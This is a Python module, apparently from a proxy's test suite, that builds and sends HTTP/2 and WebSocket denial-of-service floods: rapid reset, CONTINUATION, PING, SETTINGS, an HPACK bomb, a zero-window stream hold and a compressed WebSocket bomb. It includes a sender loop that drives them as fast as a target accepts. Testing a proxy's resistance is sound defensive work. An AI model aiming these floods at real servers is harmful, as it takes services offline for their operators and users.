"""Floods: what a hostile client sends without end, mostly frames of HTTP/2, and the sending of it as fast as a proxy takes it."""
import functools
import select
import socket
import ssl
import zlib

from lib.h2_raw import (CONTINUATION, INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, PREFACE, PRIORITY, data, dependency, frame,
                        headers, literal, ping, request, reset, settings, window)
from lib.websocket import BINARY, frame as message, handshake

CHUNK = 100   # units that are sent at a time
PATIENCE = 1  # seconds in which nothing moves: it is done, or it waits for us
MB = 1 << 20


class Flood:
    """'opening' is sent first on each connection, then unit(n) for n from 0, of so many 'frames' each. 'reads': what comes in
    return is read; 'holds': a connection stays open behind the first CHUNK; 'share': the less, the more one of them costs."""

    def __init__(self, name, opening, unit, frames=1, **how):
        self.name, self.opening, self.unit, self.frames = name, opening, unit, frames
        self.reads, self.holds, self.share = how.get("reads", True), how.get("holds"), how.get("share", 1)
        self.alpn = how.get("alpn", "h2")

    @functools.lru_cache(maxsize=64)
    def chunk(self, n):
        return b"".join(self.unit(i) for i in range(n * CHUNK, (n + 1) * CHUNK))


HELLO = PREFACE + settings()
POST = headers(1, request(1, method="POST"), end=False)
BOMB = literal("x-bomb", "b" * 3900, 0x40)


def deflated(content):
    """As permessage-deflate has it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (packer.compress(content) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]


@functools.lru_cache(maxsize=1)
def bomb():
    return message(BINARY, deflated(bytes(10 * MB)), bits=4, mask=b"mask")


WEBSOCKET = handshake("/", "site.test", [("Sec-WebSocket-Extensions", "permessage-deflate")])[0]

FLOODS = [
    Flood("rapid reset", HELLO, lambda n: headers(2 * n + 1, request(1, path="/1k")) + reset(2 * n + 1), frames=2, share=0.2),
    Flood("CONTINUATION", HELLO + headers(1, request(1), flags=0), lambda n: frame(CONTINUATION, 1, literal(f"x-{n}", "v" * 64))),
    Flood("empty CONTINUATION", HELLO + headers(1, request(1), flags=0), lambda n: frame(CONTINUATION, 1)),
    Flood("SETTINGS", HELLO, lambda n: settings((MAX_CONCURRENT_STREAMS, 100))),
    Flood("PING", HELLO, lambda n: ping()),
    Flood("PING, answers not read", HELLO, lambda n: ping(), reads=False),
    Flood("PRIORITY", HELLO, lambda n: frame(PRIORITY, 2 * n + 3, dependency(2 * n + 1))),
    Flood("WINDOW_UPDATE", HELLO, lambda n: window(0, 1)),
    Flood("empty DATA", HELLO + POST, lambda n: data(1)),
    Flood("HPACK bomb", HELLO + headers(1, BOMB), lambda n: headers(2 * n + 3, b"\xbe" * 4000), share=0.02),
    Flood("window of nothing", HELLO + settings((INITIAL_WINDOW_SIZE, 0)), lambda n: headers(2 * n + 1, request(1, path="/1m")),
          holds=True, share=0.02),
    Flood("WebSocket bomb", WEBSOCKET, lambda n: bomb(), alpn="http/1.1", share=0.0005),
]


class Sender:
    """One connection of an attacker."""

    def __init__(self, sock, flood):
        self.sock, self.flood = sock, flood
        sock.settimeout(10)
        sock.sendall(flood.opening)
        if flood.alpn != "h2":  # there is an answer to wait for
            self._recv()
        sock.setblocking(False)

    def _recv(self):
        try:
            return self.sock.recv(1 << 18)
        except OSError as why:
            return None if isinstance(why, (ssl.SSLWantReadError, BlockingIOError)) else b""

    def _send(self, view):
        try:
            return self.sock.send(view)
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            return 0
        except OSError:
            return None

    def _wait(self, writing):
        reading = self.flood.reads or not writing
        return any(select.select([self.sock] * reading, [self.sock] * writing, [], PATIENCE))

    def send(self, content):
        """Whether all of it went."""
        view = memoryview(content)
        while view:
            if self.flood.reads and self._recv() == b"":
                return False
            n = self._send(view)
            if n is None or (not n and not self._wait(True)):
                return False
            view = view[n:]
        return True

    def finish(self):
        """Reads to the end, which comes when all is taken, or until nothing moves."""
        if not self.flood.holds:
            try:
                self.sock.shutdown(socket.SHUT_WR)
            except OSError:
                return
        while self._recv() != b"":
            if not self._wait(False):
                return


def attack(connect, flood, total):
    """Sends at least so many frames, on as many connections as that takes; connect(alpn) makes one. Returns how many frames and how
    many connections it were."""
    sent, made, held = 0, 0, []
    while sent < total:
        with connect(flood.alpn) as sock:
            sender, n = Sender(sock, flood), 0
            made += 1
            while sent < total and sender.send(flood.chunk(n)):
                n, sent = n + 1, sent + CHUNK * flood.frames
                if flood.holds:
                    break
            sent += CHUNK * flood.frames * (not n)  # cut in the first of them
            sender.finish()
            if flood.holds:
                held.append(sock.detach())
    for number in held:
        socket.close(number)
    return sent, made
